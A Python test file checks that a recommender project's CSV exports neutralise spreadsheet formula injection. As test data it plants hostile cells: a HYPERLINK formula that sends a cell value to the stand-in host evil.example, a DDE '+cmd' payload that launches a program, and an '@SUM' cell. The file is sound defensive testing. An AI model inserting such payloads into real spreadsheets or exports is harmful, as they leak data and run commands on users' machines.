"""Every CSV the project writes is safe to open in a spreadsheet: ``recommend`` lists and item
maps neutralise text cells that a spreadsheet would run (``= + - @``), exactly like exports."""

from __future__ import annotations

import os
from pathlib import Path

import pandas as pd

from recsys.cli import main
from recsys.export.writers import unneutralise_cells, write_table

from .test_maps_data import write_shop_files

os.environ.setdefault("NUMBA_CACHE_DIR", str(Path(__file__).resolve().parent.parent / ".cache" / "numba"))

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _hostile_shop(folder: Path) -> tuple[str, str]:
    inter, cat = write_shop_files(folder)
    items = pd.read_csv(inter, dtype=str)
    first = items["item_id"].iloc[0]
    items.loc[items["item_id"] == first, "item_id"] = "+cmd|' /C calc'!A0"
    items.loc[items["user_id"] == items["user_id"].iloc[0], "user_id"] = "@SUM(1+1)"
    items.to_csv(inter, index=False)
    catalog = pd.read_csv(cat, dtype=str)
    catalog.loc[catalog["item_id"] == first, "item_id"] = "+cmd|' /C calc'!A0"
    catalog["title"] = catalog["title"].where(catalog.index % 3 != 0, FORMULA)
    catalog.to_csv(cat, index=False)
    return inter, cat



def test_write_table_neutralises_text_and_keeps_numbers(tmp_path):
    frame = pd.DataFrame({"item_id": ["=1+1", "ok", None], "score": [-1.5, 0.25, 2.0]})
    path = write_table(frame, tmp_path / "t.csv")
    back = pd.read_csv(path, dtype={"item_id": str})
    assert back["item_id"].tolist()[:2] == ["'=1+1", "ok"] and pd.isna(back["item_id"].iloc[2])
    assert back["score"].tolist() == [-1.5, 0.25, 2.0]  # a negative number is not a formula
    assert unneutralise_cells(back["item_id"].iloc[:2]).tolist() == ["=1+1", "ok"]


def test_recommend_csv_is_spreadsheet_safe(tmp_path):
    inter, _cat = _hostile_shop(tmp_path)
    out = tmp_path / "recs.csv"
    assert main(["recommend", "--interactions", inter, "--model", "pop", "--out", str(out)]) == 0
    frame = pd.read_csv(out, dtype=str)
    assert "'@SUM(1+1)" in set(frame["user_id"])
    cells = set(frame["user_id"]) | set(frame["item_id"])
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_map_csv_is_spreadsheet_safe(tmp_path):
    inter, cat = _hostile_shop(tmp_path)
    out = tmp_path / "map.csv"
    code = main(["map", "--interactions", inter, "--catalog", cat, "--source", "cf", "--method", "pca",
                 "--all-columns", "--out", str(out)])
    assert code == 0
    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert f"'{FORMULA}" in set(frame["title"])
    assert "'+cmd|' /C calc'!A0" in set(frame["item_id"])
    text = [frame[c] for c in frame.columns if c in ("item_id", "title", "category", "cluster_label")]
    assert not any(v.startswith(("=", "+", "@")) for col in text for v in col)
